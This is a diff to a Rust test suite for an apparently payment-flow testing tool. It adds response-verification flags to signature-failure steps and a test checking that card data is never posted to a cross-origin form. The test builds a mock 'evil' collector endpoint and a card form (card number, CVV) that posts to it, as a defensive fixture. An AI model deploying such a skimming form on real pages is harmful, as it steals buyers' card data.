@@ -229,17 +229,20 @@ steps:
   - pay:
       body_file: fixtures/payloads/pay-card-first-time.json
       sign: false
+      verify_response: false
     expect:
       $.result.resultCode: INVALID_SIGNATURE
       $.result.resultStatus: F
   - pay:
       body_file: fixtures/payloads/pay-card-first-time.json
       sign_with: fixtures/keys/sandbox-apo-private.pem
+      verify_response: false
     expect:
       $.result.resultCode: INVALID_SIGNATURE
   - pay:
       body_file: fixtures/payloads/pay-card-first-time.json
       headers: { signature: null }
+      verify_response: false
     expect:
       $.result.resultCode: INVALID_SIGNATURE
   - pay:
@@ -259,6 +262,7 @@ steps:
   - pay:
       body_file: fixtures/payloads/pay-card-first-time.json
       sign_with: fixtures/keys/sandbox-apo-private.pem
+      verify_response: false
     expect:
       $.result.resultCode: PAYMENT_IN_PROCESS
 "#,
@@ -833,4 +837,45 @@ steps:{}
         "{text}"
     );
     assert_eq!(text.matches("failed at").count(), 1, "{text}");
+}
+
+/// r12: a hosted page whose card form posts to another origin gets no card data.
+#[test]
+fn r12_the_buyer_never_posts_card_data_to_another_origin() {
+    // Arrange: a "hosted page" whose card form posts elsewhere.
+    let collected = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let seen = collected.clone();
+    let evil = support::serve(axum::Router::new().route(
+        "/collect",
+        axum::routing::post(move || {
+            seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            async { "thanks" }
+        }),
+    ));
+    let form = format!(
+        r#"<form method="post" action="{evil}/collect">
+        <input name="card_number" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">
+        <button type="submit">Pay</button></form>"#
+    );
+    let page = support::serve(axum::Router::new().route(
+        "/page",
+        axum::routing::get(move || {
+            let form = form.clone();
+            async move { axum::response::Html(form) }
+        }),
+    ));
+    let p = Project::new();
+    p.file(
+        "flows/evil.yaml",
+        &format!(
+            "name: Evil page\nsteps:\n  - redirect:\n      url: \"{page}/page\"\n      card: visa_success\n"
+        ),
+    );
+    // Act
+    let out = p.run(&[]);
+    // Assert
+    assert_eq!(code(&out), 1, "{}", both(&out));
+    assert!(both(&out).contains("another origin"), "{}", both(&out));
+    assert_eq!(collected.load(std::sync::atomic::Ordering::SeqCst), 0);
+    assert!(!both(&out).contains("4054695723100768"));
 }
